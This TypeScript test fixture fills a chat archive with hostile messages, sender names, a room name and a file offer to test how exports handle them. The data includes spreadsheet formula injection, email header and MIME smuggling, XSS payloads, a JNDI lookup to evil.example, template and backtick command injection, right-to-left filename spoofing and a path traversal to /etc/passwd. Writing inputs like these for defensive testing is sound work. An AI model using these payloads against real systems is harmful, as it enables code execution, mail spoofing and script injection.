/**
 * An archive of conversations in which people say and are called what breaks readers of exports: formulas, markup,
 * headers, control characters, text that reorders its neighbours, a megabyte on a line.
 */
import type { Archive } from '../../appliance/archive/archive.ts';
import { Appender } from '../../appliance/archive/record/appender.ts';
import { EventDrafts, type Keeping } from '../../appliance/archive/record/draft-event.ts';
import { encodeEvent } from '../../src/event/encode.ts';
import { ImEvent } from '../../src/event/event.ts';
import type { EventKind } from '../../src/event/kinds.ts';
import { parseRfc3339 } from '../../src/event/time.ts';

export const HOSTILE_TEXTS = [
  'hello',
  "=cmd|' /C calc'!A0",
  '+1-1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '"quoted", and, commas; \'apostrophes\'',
  'two\nlines\r\nand a third',
  'hello\r\nBcc: mallory@evil.example\r\n\r\nnot a header',
  '.\r\n.\r\nQUIT\r\n',
  'From here\nFrom there',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--boundary--',
  'nul \u0000 bell \u0007 escape \u001b[31m delete \u007f c1 \u009b31m',
  'no XML: \u0001\ufffe\uffff',
  '<script>document.title="owned"</script>',
  '"><img src=x onerror="document.title=\'owned\'">',
  '</bdi></span></li></ol><style>*{display:none}</style>',
  ']]> <!-- --> <![CDATA[ &amp; &lt; &#60; &nbsp;',
  '$' + '{jndi:ldap://evil.example/a} {{7*7}} `id`',
  'invoice\u202egnp.exe',
  '\u2066isolated\u2067 never closed',
  '\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627',
  'zero\u200bwidth\ufeff',
  'line\u2028separator\u2029paragraph',
  'emoji \u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f600}',
  'lone \ud800 surrogate',
  '=?utf-8?B?ZW5jb2RlZA==?=',
  ' ',
  '   leading and trailing   ',
  'e\u0301 \u00e9 \ufb01',
  `${'long '.repeat(200_000)}end`,
  `${'=20'.repeat(400)} ${'\u00e9'.repeat(300)}`,
] as const;

const HOSTILE_NAMES = [
  'alice@a.example',
  'bob@b.example',
  'eve\r\nBcc: mallory@evil.example',
  '"><script>alert(1)</script>@x.example',
  '=1+1@evil.example',
  '\u202egro.live@moc',
  'nul\u0000name@x.example',
  '"Quoted, Name" <real@victim.example>',
] as const;

export interface HostileEvent {
  /** As encodeEvent writes it. */
  readonly line: string;
  readonly text: string | undefined;
  readonly conversation: 'direct' | 'room' | 'none';
}

const ROOM = '#<b>&\r\nX: y';
const DAY = 86_400e6;

/** Three nights, over midnight each, a conversation by each name and a room; some of it out of order. */
export function hostileEvents(): HostileEvent[] {
  const start = parseRfc3339('2026-11-23T23:59:50.000001Z') ?? 0;
  const events: HostileEvent[] = [];
  let number = 0;
  const add = (
    kind: EventKind,
    time: number,
    members: Partial<ImEvent>,
    conversation: HostileEvent['conversation'],
  ) => {
    number += 1;
    const event = new ImEvent(kind);
    Object.assign(event, {
      time,
      id: `0192f0c4-0000-7000-8000-${String(number).padStart(12, '0')}`,
      service: 'jabber',
      protocol: 'xmpp',
      flow: {
        id: 'flow-1',
        transport: 'tcp',
        client: '10.0.0.5:40123',
        server: '192.0.2.1:5222',
      },
      origin: 'client',
      account: 'alice@a.example',
      ...members,
    });
    const line = encodeEvent(event);
    const text: unknown = JSON.parse(line).text;
    events.push({ line, text: typeof text === 'string' ? text : undefined, conversation });
  };
  add('session.login', start, {}, 'none');
  for (const day of [0, 2, 1]) {
    for (const [n, text] of HOSTILE_TEXTS.entries()) {
      // The long ones once: reading them back takes time.
      if (text.length > 10_000 && day > 0) continue;
      const time = start + day * DAY + n * 1_000_001;
      const name = HOSTILE_NAMES[n % HOSTILE_NAMES.length] ?? '';
      add('message', time, { from: 'alice@a.example', to: [name], text }, 'direct');
      add(
        'message',
        time + 10,
        { from: name, room: ROOM, text, subject: text.slice(0, 100) },
        'room',
      );
    }
    add(
      'message',
      start + day * DAY + 5,
      { from: 'bob@b.example', room: ROOM, text: 'late' },
      'room',
    );
    add(
      'file.offer',
      start + day * DAY + 3600e6,
      {
        from: 'alice@a.example',
        to: ['bob@b.example'],
        file: { name: '../../../etc/passwd\r\n<b>\u202etxt.exe', size: 17, method: 'ibb' },
        verdict: {
          action: 'drop',
          enforced: false,
          rule: '=rule<b>',
          tags: ['dlp'],
          matched: ['=x'],
        },
      },
      'direct',
    );
  }
  return events;
}

/** Appends them; `keep`: how much of those that no rule spoke of. */
export async function fillArchive(
  archive: Archive,
  events: readonly HostileEvent[],
  keep: Keeping = 'full',
): Promise<void> {
  const drafts = new EventDrafts(keep);
  const appender = new Appender(archive);
  const records = events.flatMap(({ line }) => drafts.read(line) ?? []);
  for (let at = 0; at < records.length; at += 50) await appender.append(records.slice(at, at + 50));
}
